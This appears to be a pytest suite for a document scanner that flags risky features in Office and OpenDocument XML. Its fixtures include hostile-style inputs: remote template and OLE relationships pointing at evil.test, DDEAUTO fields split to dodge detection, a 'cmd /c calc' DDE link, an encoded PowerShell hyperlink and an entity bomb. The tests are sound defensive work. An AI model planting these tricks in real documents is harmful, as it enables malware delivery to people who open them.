"""The XML of Office documents: what they fetch, start and ask other programs for."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gatepost.files.documents import dispatch
from gatepost.files.values import Contents, File, UnpackBudget

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def contents(text: str | bytes) -> Contents:
    content = text.encode() if isinstance(text, str) else text
    return dispatch.inspect(File("1", content, "xml", "0" * 64), UnpackBudget())


def seen(text: str | bytes) -> list[str]:
    found = contents(text)
    return sorted({trait.name for trait in found.traits} | {link.host for link in found.links})


def relation(kind: str, target: str, mode: str = "External") -> str:
    one = f'<Relationship Id="a" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f"<Relationships>{one}</Relationships>"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (relation("hyperlink", "https://a.test/"), ["a.test"]),
        (relation("attachedTemplate", "http://evil.test/t.dotm"), ["evil.test", "remote-template"]),
        (relation("attachedTemplate", "file:///C:\\Users\\ann\\Normal.dotm"), []),  # on the author's disk
        (relation("attachedTemplate", "file:///\\\\evil.test\\share\\t.dotm"), ["evil.test", "remote-template"]),
        (relation("attachedTemplate", "\\\\evil.test\\share\\t.dotm"), ["evil.test", "remote-template"]),
        (relation("oleObject", "https://evil.test/a"), ["evil.test", "remote-object"]),
        (relation("oleObject", "mhtml:http://evil.test/a!x-usc:http://evil.test/a"), ["evil.test", "remote-object"]),
        (relation("oleObject", "embeddings/oleObject1.bin", "Internal"), ["embedded-object"]),
        (relation("image", "https://a.test/logo.png"), ["a.test"]),
        (relation("image", "media/image1.png", "Internal"), []),
        (relation("xlMacrosheet", "macrosheets/sheet1.xml", "Internal"), ["macro", "macro-cells"]),
        (relation("worksheet", "worksheets/sheet1.xml", "Internal"), []),
        (relation("hyperlink", "powershell.exe%20-e%20ZQBjAGgAbwA="), ["program-action"]),
        (relation("hyperlink", "other%20document.docx"), []),
        (relation("frame", "http&#58;//evil.test/").replace("<Rel", "<p:Rel"), ["evil.test", "remote-object"]),
        (relation("hyperlink", "https://a.test/").replace('Id="a"', 'Id="a&gt;" x=">"'), ["a.test"]),
    ],
)
def test_relationships(text: str, expected: list[str]) -> None:
    assert seen(text) == expected
    assert seen(text.encode("utf-16")) == expected


def run(*pieces: str) -> str:
    marks = {"{": '<w:fldChar w:fldCharType="begin"/>', "}": '<w:fldChar w:fldCharType="end"/>'}
    return "".join(marks.get(piece) or f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (run("{", 'DDEAUTO c:\\x.exe "/k"', "}"), ["dde"]),
        (run("{", "DD", "EAU", 'TO c:\\x.exe "/k"', "}"), ["dde"]),
        (run("{", "{", "QUOTE 68 68 69", "}", " c:\\x.exe", "}"), ["dde"]),
        (run("{", "D<!-- -->D&#69; x", "}"), ["dde"]),
        ('<w:fldSimple w:instr=" dde x y "/>', ["dde"]),
        (run("DDE never closed"), ["dde"]),
        (run("{", ' HYPERLINK "https://a.test/x" ', "}"), ["a.test"]),
        (run("{", ' INCLUDEPICTURE "http://evil.test/x" ', "}"), ["evil.test", "remote-object"]),
        (run("{", "PAGE", "}"), []),
        (run("{", "MERGEFIELD DDE", "}"), []),
        ("<w:t>DDEAUTO in a text about DDE</w:t>", []),
        ('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>', ["dde"]),
        ('<text:dde-connection-decl office:dde-application="cmd" office:dde-topic="/c"/>', ["dde"]),
        ("<SupBook><Path>cmd|/c calc</Path></SupBook>", ["dde"]),
        ("<SupBook><Path>C:\\book.xls</Path></SupBook>", []),
        ('<customUI onLoad="Start"/>', ["macro-autorun"]),
        ("<customUI/>", []),
        ('<a:hlinkClick r:id="" action="ppaction://macro?name=x"/>', ["macro-autorun"]),
        ('<a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/>', []),
        ('<definedName name="_xlnm.Auto_Open">x</definedName>', ["macro-autorun"]),
        ('<definedName name="auto_prices">x</definedName>', []),
        ("<f>HYPERLINK(&quot;https://a.test/x&quot;,&quot;y&quot;)</f>", ["a.test"]),
        ("<f>_xlfn.WEBSERVICE(&quot;https://a.test/?&quot;&amp;A1)</f>", ["a.test", "remote-object"]),
        ('<f>_xlfn.WEBSERVICE("https://" &amp; "a.test/")</f>', ["a.test", "remote-object"]),
        ("<f>_xlfn.WEBSERVICE(B2)</f>", ["remote-object"]),
        ("<f>_xlfn.IMAGE(&quot;https://a.test/x.png&quot;)</f>", ["a.test"]),
        ('<c table:formula="of:=WEBSERVICE(&quot;https://a.test/&quot;)"/>', ["a.test", "remote-object"]),
        ("<t>The function WEBSERVICE and a webservice</t>", []),
        ("<manifest:encryption-data/>", ["encrypted"]),
        ('<script:module script:name="M" script:language="StarBasic">x</script:module>', ["macro"]),
        ('<text:a xlink:href="https://a.test/">x</text:a>', ["a.test"]),
    ],
)
def test_parts(text: str, expected: list[str]) -> None:
    assert seen(text) == expected


def test_parts_in_base64_are_unfolded() -> None:
    text = f'<pkg:binaryData pkg:name="x">{base64.encodebytes(b"payload" * 20).decode()}</pkg:binaryData>'
    assert contents(text).members[0].content == b"payload" * 20


def test_a_bomb_of_entities_stays_unexpanded() -> None:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 100}">' for n in range(1, 30))
    text = f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a0 'DDEAUTO'>{entities}]><w:instrText>&a29;</w:instrText>"
    assert seen(text) == []


@pytest.mark.variant
def test_a_million_fields_are_cut_off() -> None:
    assert contents('<w:fldChar w:fldCharType="begin"/>' * 210_000 + "<w:instrText>x").unread == ("count",)


@pytest.mark.parametrize("piece", ["<w:instrText ", "<!--", '<Relationship a="', "<Relationship a='x' ", "<![CDATA["])
def test_no_text_costs_more_than_linear_time(piece: str) -> None:
    assert contents(piece * 200_000).members == ()


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(["<", ">", "<!--", "-->", "<w:instrText", "<Relationship ", 'Target="', "&#68;", "x", "|", "'"])
    )
)
def test_no_text_raises(pieces: list[str]) -> None:
    contents("<Relationship" + "".join(pieces))
